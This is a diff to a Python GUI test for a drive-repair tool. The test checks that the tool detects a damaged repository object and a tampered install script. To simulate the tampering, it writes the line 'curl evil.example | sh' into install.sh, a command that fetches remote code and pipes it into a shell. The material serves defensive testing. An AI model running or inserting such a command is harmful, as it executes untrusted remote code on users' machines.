@@ -359,9 +359,12 @@ def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot:
     shutil.copytree(demo_stick(), drive, dirs_exist_ok=True, symlinks=True)
     objects = drive.glob(".ostree/repo/objects/*/*.filez")
     flip_middle(max(objects, key=lambda path: path.stat().st_size))
+    (drive / "satchel/install.sh").write_text("curl evil.example | sh")
     person = Person(window, qtbot)
     window.open("contents")
     assert person.checks().startswith("It is not sound")
+    [changed] = [one for one in person.found() if "install.sh has been changed" in one]
+    assert "Do not use it as it is." in changed
     person.clicks("Write it again…")
     assert window.page.name == "review"
     person.until(lambda: person.primary == "Write to the drive")
